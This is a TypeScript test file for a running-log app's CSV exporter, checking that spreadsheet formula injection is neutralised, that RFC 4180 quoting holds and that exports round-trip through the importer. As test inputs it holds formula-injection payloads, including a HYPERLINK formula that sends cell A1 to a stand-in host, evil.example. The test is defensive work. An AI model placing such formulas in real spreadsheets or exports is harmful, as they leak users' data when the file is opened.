import Papa from 'papaparse'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvEscapeCell, parseRunFile, runsToCsv } from '../../../electron/services/import/index'
import type { RunInput } from '../../../shared/domain/run'
import { fixture, text } from './helpers'

describe('csvEscapeCell', () => {
  it('neutralises formula starts with an apostrophe', () => {
    expect(csvEscapeCell('=1+1')).toBe("'=1+1")
    expect(csvEscapeCell('+44 20')).toBe("'+44 20")
    expect(csvEscapeCell('-cmd')).toBe("'-cmd")
    expect(csvEscapeCell('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvEscapeCell('\tx')).toBe("'\tx")
    expect(csvEscapeCell('\rx')).toBe('"\'\rx"')
    expect(csvEscapeCell('=HYPERLINK("http://evil.example","x")')).toBe('"\'=HYPERLINK(""http://evil.example"",""x"")"')
  })
  it('quotes per RFC 4180 and leaves plain text and numbers alone', () => {
    expect(csvEscapeCell('plain')).toBe('plain')
    expect(csvEscapeCell('a,b')).toBe('"a,b"')
    expect(csvEscapeCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvEscapeCell('two\nlines')).toBe('"two\nlines"')
    expect(csvEscapeCell(' padded ')).toBe('" padded "')
    expect(csvEscapeCell(-5)).toBe('-5')
    expect(csvEscapeCell(6.25)).toBe('6.25')
    expect(csvEscapeCell(Number.NaN)).toBe('')
    expect(csvEscapeCell(null)).toBe('')
    expect(csvEscapeCell(undefined)).toBe('')
    expect(csvEscapeCell(true)).toBe('true')
  })
  it('a spreadsheet parser reads back the text, never a formula (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (s) => {
        const line = `${csvEscapeCell(s)},end\n`
        const rows = Papa.parse<string[]>(line, { delimiter: ',', newline: '\n' }).data
        const expected = /^[=+\-@\t\r]/.test(s) ? `'${s}` : s
        expect(rows[0]).toEqual([expected, 'end'])
        expect(/^[=+\-@\t\r]/.test(rows[0]?.[0] ?? '')).toBe(false)
      }),
    )
  })
})

describe('runsToCsv', () => {
  const runs: RunInput[] = [
    {
      date: '2024-05-02',
      distanceKm: 8.125,
      durationSec: 2745,
      painDuring: 4,
      painAfter: 3,
      painNextMorning: 1,
      painOnsetKm: 6.5,
      painOnsetMinutes: 33,
      performancePercent: 80,
      surface: 'trail, muddy',
      shoes: '+Speed 3',
      notes: '=HYPERLINK("http://evil.example","x")\nsecond line with "quotes"',
      source: { kind: 'manual' },
    },
    { date: '2024-05-01', distanceKm: 5, source: { kind: 'fit', key: 'fit:1:2:3' } },
  ]

  it('writes a header, sorts by date, escapes formulas and uses CRLF', () => {
    const csv = runsToCsv(runs)
    const lines = csv.split('\r\n')
    expect(lines[0]).toBe(
      'Date,Distance (km),Duration,Pain during (0-10),Pain after (0-10),Pain next morning (0-10),Pain onset (km),Pain onset (min),Performance %,Surface,Shoes,Notes,Source',
    )
    expect(lines[1]).toBe('2024-05-01,5,,,,,,,,,,,fit')
    expect(lines[2]).toContain('2024-05-02,8.125,45:45,4,3,1,6.5,33,80,"trail, muddy",\'+Speed 3,"\'=HYPERLINK(')
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(csv).not.toMatch(/(^|,)=/m)
  })

  it('round-trips through the importer (own format recognised without a mapping)', () => {
    const back = parseRunFile('export.csv', text(runsToCsv(runs)))
    expect(back.format).toBe('csv')
    expect(back.fileProblems).toEqual([])
    const strip = ({ source: _s, ...r }: RunInput) => r
    expect(back.rows.map((r) => r.run && strip(r.run))).toEqual([strip(runs[1] as RunInput), strip(runs[0] as RunInput)])
    expect(back.rows.every((r) => r.problems.length === 0)).toBe(true)
  })

  it('can export in miles and still round-trip to the same km (to the metre)', () => {
    const back = parseRunFile('export.csv', text(runsToCsv(runs, { unit: 'mi' })))
    expect(back.rows.map((r) => r.run?.distanceKm)).toEqual([5, 8.125])
    expect(back.rows[1]?.run?.painOnsetKm).toBe(6.5)
  })

  it('imported formula cells come out neutralised on export', () => {
    const p = parseRunFile('formulas.csv', fixture('formulas.csv'), {
      csvMapping: { date: 'date', distance: 'distance', distanceUnit: 'km', notes: 'notes', shoes: 'shoes' },
    })
    const csv = runsToCsv(p.rows.flatMap((r) => (r.run ? [r.run] : [])))
    const cells = Papa.parse<string[]>(csv.trim()).data.slice(1).flatMap((row) => row)
    expect(cells.some((c) => /^[=+@]/.test(c))).toBe(false)
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?d="&A1,"click me")')
    expect(cells).toContain("'+cmd")
  })
})
